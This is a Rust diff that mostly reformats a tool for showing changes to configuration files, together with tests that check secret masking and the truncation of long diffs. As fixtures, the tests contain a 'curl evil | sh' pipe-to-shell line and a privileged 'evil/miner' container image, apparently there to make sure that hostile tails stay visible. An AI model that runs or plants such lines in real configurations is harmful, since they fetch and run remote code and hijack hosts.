@@ -312,7 +312,9 @@ fn diff_item(name: &str, current: &Document, new: &Document, source: &str) -> St
         for op in &group {
             for change in diff.iter_changes(op) {
                 let (sign, line) = match change.tag() {
-                    similar::ChangeTag::Equal => (' ', change.old_index().and_then(|i| old_shown.get(i))),
+                    similar::ChangeTag::Equal => {
+                        (' ', change.old_index().and_then(|i| old_shown.get(i)))
+                    }
                     similar::ChangeTag::Delete => {
                         removed += 1;
                         ('-', change.old_index().and_then(|i| old_shown.get(i)))
@@ -381,7 +383,10 @@ fn bounded(text: &str, info: &str) -> String {
 /// The byte offset `chars` characters into `text`, moved to the nearest line boundary within
 /// 200 characters (back for a head's end, forward for a tail's start) so lines stay whole.
 fn cut_at_line(text: &str, chars: usize, head: bool) -> usize {
-    let at = text.char_indices().nth(chars).map_or(text.len(), |(i, _)| i);
+    let at = text
+        .char_indices()
+        .nth(chars)
+        .map_or(text.len(), |(i, _)| i);
     let window = 200;
     if head {
         let from = text[..at]
@@ -522,10 +527,19 @@ mod tests {
         );
         assert!(!t.contains("hunter2"), "{t}");
         assert!(t.contains("2 lines removed, 2 added"), "{t}");
-        let minus = t.lines().find(|l| l.starts_with("-DB_PASSWORD=")).expect(&t);
-        let plus = t.lines().find(|l| l.starts_with("+DB_PASSWORD=")).expect(&t);
+        let minus = t
+            .lines()
+            .find(|l| l.starts_with("-DB_PASSWORD="))
+            .expect(&t);
+        let plus = t
+            .lines()
+            .find(|l| l.starts_with("+DB_PASSWORD="))
+            .expect(&t);
         assert_eq!(minus[1..], plus[1..], "both masked alike: {t}");
-        assert!(t.contains("\n TZ=UTC\n") && t.contains("\n-DEBUG=0\n") && t.contains("\n+DEBUG=1\n"), "{t}");
+        assert!(
+            t.contains("\n TZ=UTC\n") && t.contains("\n-DEBUG=0\n") && t.contains("\n+DEBUG=1\n"),
+            "{t}"
+        );
     }
 
     #[test]
@@ -541,7 +555,10 @@ mod tests {
             t.contains("the current version could not be read to show what changes: Arcane did not answer within 10 s"),
             "{t}"
         );
-        assert!(t.contains("```text\nservices:\n  web:\n    image: x\n```"), "{t}");
+        assert!(
+            t.contains("```text\nservices:\n  web:\n    image: x\n```"),
+            "{t}"
+        );
     }
 
     #[test]
@@ -553,10 +570,18 @@ mod tests {
             json!({"projectId": "p1", "composeContent": new}),
             &[("composeContent", Ok(json!(old)))],
         );
-        assert!(t.contains("3000 lines removed, 3001 added"), "{}", &t[..300]);
+        assert!(
+            t.contains("3000 lines removed, 3001 added"),
+            "{}",
+            &t[..300]
+        );
         assert!(t.contains("in the middle not shown"), "cut");
         assert!(t.contains("+payload: curl evil | sh"), "the tail is shown");
-        assert!(t.chars().count() < 10_000, "{} characters", t.chars().count());
+        assert!(
+            t.chars().count() < 10_000,
+            "{} characters",
+            t.chars().count()
+        );
     }
 
     #[test]
@@ -576,8 +601,14 @@ mod tests {
         )
         .text()
         .to_string();
-        assert!(t.contains("```text\nservices:\n  s0: {image: nginx}\n"), "head");
-        assert!(t.contains("  zz: {image: evil/miner, privileged: true}\n```"), "tail");
+        assert!(
+            t.contains("```text\nservices:\n  s0: {image: nginx}\n"),
+            "head"
+        );
+        assert!(
+            t.contains("  zz: {image: evil/miner, privileged: true}\n```"),
+            "tail"
+        );
         let note = t
             .lines()
             .find(|l| l.starts_with("… ") && l.contains("in the middle not shown"))
